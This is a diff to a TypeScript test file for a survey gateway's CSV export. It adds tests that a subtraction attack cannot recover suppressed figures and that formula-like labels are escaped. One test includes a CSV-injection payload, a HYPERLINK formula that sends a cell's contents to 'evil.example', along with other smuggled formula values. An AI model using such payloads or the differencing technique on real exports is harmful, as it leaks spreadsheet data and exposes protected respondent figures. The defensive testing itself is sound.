@@ -4,8 +4,16 @@ import { signAccessToken } from '@engage/shared/auth';
 import { startService, type RunningHttpServer, type RunningService } from '@engage/shared/graphql';
 import { createTestDatabase, testSecret, type TestDatabase } from '@engage/shared/testing';
 import { surveysService } from '@engage/surveys/service';
+import { AGE_BANDS, GENDERS } from '@engage/shared/demographics';
 import { composeSupergraph } from '../src/compose/compose.ts';
+import { confidenceCsv, type ExportCell } from '../src/exports/confidence-csv.ts';
 import { startGateway } from '../src/gateway.ts';
+import { emptyView, learn, structure } from '../../services/surveys/test/attack/published-view.ts';
+import { subtractionAttack } from '../../services/surveys/test/attack/subtraction-attack.ts';
+import {
+  TEMPTING_ROUNDS,
+  seedTemptingRounds,
+} from '../../services/surveys/test/attack/tempting-data.ts';
 
 const secrets = { access: testSecret(), signing: testSecret() };
 process.env['INVITATION_SIGNING_SECRET'] ??= testSecret();
@@ -25,6 +33,7 @@ beforeAll(async () => {
     seedDemoData: true,
     logger,
   });
+  await seedTemptingRounds(surveys.orm.em.fork());
   gateway = await startGateway({
     supergraphSdl: await composeSupergraph(),
     subgraphUrls: { surveys: `${surveys.url}/graphql` },
@@ -125,6 +134,72 @@ describe('the confidence CSV export', () => {
     );
   });
 
+  it('gives back no hidden figure to a reader who downloads every level, breakdown and sample', async () => {
+    const roundIds = TEMPTING_ROUNDS.map((round) => round.id);
+    const samples = ['VERIFIED', 'OPEN_LINK', 'ALL'];
+    const view = emptyView();
+    for (const sample of samples) {
+      for (const level of ['FORCE', 'POLICING_AREA', 'NEIGHBOURHOOD']) {
+        for (const groupBy of ['NONE', 'AGE_BAND', 'GENDER']) {
+          const response = await download(
+            `level=${level}&groupBy=${groupBy}&sample=${sample}&roundIds=${roundIds.join(',')}`,
+            analyst,
+          );
+          expect(response.status).toBe(200);
+          for (const row of parse(await response.text())) {
+            expect(row['sample']).toBe(sample);
+            const areaId =
+              level === 'FORCE'
+                ? null
+                : level === 'POLICING_AREA'
+                  ? row['policing_area_id']!
+                  : row['neighbourhood_id']!;
+            const hidden = row['value'] === 'suppressed';
+            learn(
+              view,
+              { roundId: row['round_id']!, sample, level, areaId, group: row['group'] || null },
+              row['measure']!,
+              {
+                value: hidden ? null : Number(row['value']),
+                respondents: hidden ? null : Number(row['respondents']),
+                suppressed: hidden,
+              },
+            );
+          }
+        }
+      }
+    }
+    expect(view.hidden.size).toBeGreaterThan(0);
+    const sums = structure(roundIds, samples, [AGE_BANDS, GENDERS]);
+    expect([...subtractionAttack(view, sums).keys()]).toEqual([]);
+  });
+
+  it('writes a round label that looks like a formula as text, and numbers as numbers', () => {
+    const figure = { value: 52.5, lower: 40, upper: 61.25, respondents: 40, suppressed: false };
+    const cell: ExportCell = {
+      round: { id: 'r-1', label: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
+      level: 'FORCE',
+      policingAreaId: null,
+      neighbourhoodId: null,
+      groupBy: 'NONE',
+      group: '@SUM(1+1)',
+      confidence: figure,
+      questions: [{ question: { code: 'Q1' }, figure }],
+      change: { points: -3.25, significant: true, suppressed: false },
+      sample: 'VERIFIED',
+    };
+    const [header, first] = confidenceCsv([cell]).split('\n');
+    expect(header).toContain(',sample');
+    expect(first).toBe(
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",r-1,FORCE,,,NONE,'@SUM(1+1),` +
+        'CONFIDENCE,52.50,40.00,61.25,40,-3.25,true,VERIFIED',
+    );
+    for (const label of ['+1+1', '-1+1', '\t=1', '\r=1']) {
+      const text = confidenceCsv([{ ...cell, round: { id: 'r', label } }]);
+      expect(text.split('\n')[1]!.replace(/^"/, '')).toMatch(/^'/);
+    }
+  });
+
   it('refuses a caller without a token, with a bad token, or without the right role', async () => {
     expect((await download('level=FORCE')).status).toBe(401);
     const bad = await fetch(`${gateway.url}/exports/confidence.csv?level=FORCE`, {
@@ -133,6 +208,7 @@ describe('the confidence CSV export', () => {
     expect(bad.status).toBe(401);
     expect((await download('level=FORCE', reviewer)).status).toBe(403);
     expect((await download('level=NOWHERE', analyst)).status).toBe(400);
+    expect((await download('level=FORCE&sample=MADE_UP', analyst)).status).toBe(400);
   });
 
   it('leaves /graphql and /health answering as before', async () => {
@@ -142,8 +218,22 @@ describe('the confidence CSV export', () => {
       headers: { 'content-type': 'application/json' },
       body: JSON.stringify({ query: '{ confidenceTrend(level: FORCE) { round { label } } }' }),
     });
-    const body = (await response.json()) as { data: { confidenceTrend: unknown[] } };
-    expect(body.data.confidenceTrend).toHaveLength(15);
+    const body = (await response.json()) as {
+      data: { confidenceTrend: { round: { label: string } }[] };
+    };
+    const rounds = (await (
+      await fetch(`${gateway.url}/graphql`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ query: '{ surveyRounds { label status } }' }),
+      })
+    ).json()) as { data: { surveyRounds: { label: string; status: string }[] } };
+    // Every closed round, the demo's (15 or 16, by today's date) and the two seeded here.
+    const closed = rounds.data.surveyRounds.filter((round) => round.status === 'CLOSED');
+    expect(closed.length).toBeGreaterThanOrEqual(17);
+    expect(body.data.confidenceTrend.map((point) => point.round.label).sort()).toEqual(
+      closed.map((round) => round.label).sort(),
+    );
     expect(DEMO_FORCE).toHaveLength(9);
   });
 });
